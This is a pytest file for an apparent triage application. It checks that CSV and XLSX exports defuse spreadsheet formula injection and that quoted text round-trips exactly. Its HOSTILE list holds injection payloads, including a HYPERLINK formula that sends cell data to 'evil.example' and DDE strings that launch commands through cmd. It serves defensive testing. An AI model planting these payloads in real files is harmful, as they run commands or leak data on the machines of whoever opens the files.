"""Spreadsheet-safe exports: hostile text through every CSV and XLSX writer comes out with 0
formulas, and a learning log's CSV export imports back to the same text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from learning_data import the_cases
from review_helpers import make_app, page_token, sign_in

from triage.learning.io import export_log, import_log, load_map, read_log, write_rejects
from triage.learning.records import Outcome, list_outcomes, save_outcome
from triage.sheets import FORMULA_STARTS, csv_cell, from_csv_cell
from triage.store.db import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    "''+twice",
    "=",
]
NUMBERS = ["-12.5", "+44", "-3", "1e5"]


def _unsafe_csv_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: formula-like and not a plain number."""
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if c[:1] in FORMULA_STARTS and c not in NUMBERS]


def _xlsx_formulas(path: Path) -> int:
    """Formula elements in the workbook's XML, and formula-typed cells as openpyxl reads them."""
    import openpyxl

    with zipfile.ZipFile(path) as z:
        in_xml = sum(z.read(n).count(b"<f>") + z.read(n).count(b"<f ") for n in z.namelist() if n.endswith(".xml"))
    book = openpyxl.load_workbook(path)
    typed = sum(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    return in_xml + typed


@given(st.text())
def test_the_quote_is_undone_exactly_for_any_text(text: str) -> None:
    cell = csv_cell(text)
    assert from_csv_cell(cell) == text
    assert cell[:1] not in FORMULA_STARTS or (cell == text and float(cell) == float(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote_and_numbers_do_not(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert [csv_cell(n) for n in NUMBERS] == NUMBERS
    assert csv_cell(-4) == "-4" and csv_cell(date(2026, 1, 2)) == "2026-01-02" and csv_cell(None) == ""


def _hostile_outcomes() -> list[Outcome]:
    return [
        Outcome(
            reference=f"LO-{i}",
            description=text,
            action=text,
            service_area=text.strip(),
            risk="red",
            identified=date(2026, 11, 2),
            target_date=date(2026, 11, 20),
            dropped_reason="",
        )
        for i, text in enumerate(h for h in HOSTILE if h == h.strip())
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_hostile_learning_log_exports_without_formulas_and_imports_back_exactly(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"log{suffix}"
    outcomes = _hostile_outcomes()
    export_log(outcomes, path, load_map(None))
    if suffix == ".csv":
        assert _unsafe_csv_cells(path.read_text(encoding="utf-8")) == []
    else:
        assert _xlsx_formulas(path) == 0
    good, bad = read_log(path, load_map(None))
    assert bad == []
    assert [(o.description, o.action, o.service_area) for _, o, _ in good] == [
        (o.description, o.action, o.service_area) for o in outcomes
    ]


def test_the_rejected_rows_file_is_safe_and_keeps_the_text(tmp_path: Path) -> None:
    log = tmp_path / "log.csv"
    with log.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(
            [["reference", "description", "risk", "identified"], *[["", h, "red", "2026-11-02"] for h in HOSTILE]]
        )
    with Store(tmp_path / "t.db") as store, store.transaction() as conn:
        result = import_log(conn, log, load_map(None), "jo")
    assert len(result.bad_rows) == len(HOSTILE)
    rejects = tmp_path / "rejected.csv"
    write_rejects(result, rejects, ["reference", "description", "risk", "identified"])
    assert _unsafe_csv_cells(rejects.read_text(encoding="utf-8")) == []
    rows = list(csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    # the file holds what the log held, quoted once: read back through the log reader it is the same
    assert [from_csv_cell(r["description"]) for r in rows] == [from_csv_cell(h.strip()) for h in HOSTILE]


def test_the_learning_export_command_round_trips_hostile_text_through_the_store(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from triage.cli import cli

    db = tmp_path / "t.db"
    with Store(db) as store, store.transaction() as conn:
        for o in _hostile_outcomes():
            save_outcome(conn, o, "jo")
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["learning", "export", str(out), "--store", str(db)])
    assert result.exit_code == 0, result.output
    assert _unsafe_csv_cells(out.read_text(encoding="utf-8")) == []
    with Store(tmp_path / "again.db") as again:
        result = CliRunner().invoke(cli, ["learning", "import", str(out), "--store", str(tmp_path / "again.db"), "--by", "jo"])
        assert result.exit_code == 0, result.output
        assert sorted(o.description for o in list_outcomes(again)) == sorted(o.description for o in _hostile_outcomes())


def test_the_ghost_stage_audit_csv_has_no_formulas(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from triage.cli import cli

    register = tmp_path / "r.csv"
    with register.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["reference", "received", "category", "text", "service_area"])
        for h in HOSTILE:
            writer.writerow([h, "01/11/2026", "Service request", f"{h} nobody came AGAIN, third time, I want to complain", h])
    result = CliRunner().invoke(cli, ["audit", str(register), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "audit.csv").read_text(encoding="utf-8")
    assert text.count("\n") > 3 and _unsafe_csv_cells(text) == []


def test_the_review_audit_csv_has_no_formulas(classified_store: Store) -> None:
    from triage.review import decisions

    app = make_app(classified_store)
    client = sign_in(app)
    for pk, note in zip([r["id"] for r in decisions.to_confirm(classified_store)], HOSTILE, strict=False):
        client.post(f"/messages/{pk}", data={"csrf_token": page_token(client), "action": "confirm", "version": "0", "note": note})
    text = client.get("/audit.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) >= 5 and _unsafe_csv_cells(text) == []
    assert {from_csv_cell(r["note"]) for r in rows} <= {h.strip() for h in HOSTILE}  # notes are kept stripped


def test_report_xlsx_has_no_formulas_from_hostile_learning_text(tmp_path: Path) -> None:
    from triage.learning import add_commitment
    from triage.report import make_report, write_report

    db = tmp_path / "t.db"
    with Store(db) as store, store.transaction() as conn:
        ids = the_cases(conn)
        for o in _hostile_outcomes():
            save_outcome(conn, o, "jo")
        for h in HOSTILE:
            add_commitment(conn, ids["A"], h, "repair", owner=h, due=date(2026, 11, 10), by="jo")
    files = write_report(make_report(date(2026, 10, 1), date(2026, 12, 31), by="quarter", store=str(db)), tmp_path / "out")
    assert _xlsx_formulas(files.xlsx) == 0
    import openpyxl

    book = openpyxl.load_workbook(files.xlsx)
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert any(t.startswith("=HYPERLINK") for t in texts)  # the hostile text is there, as text
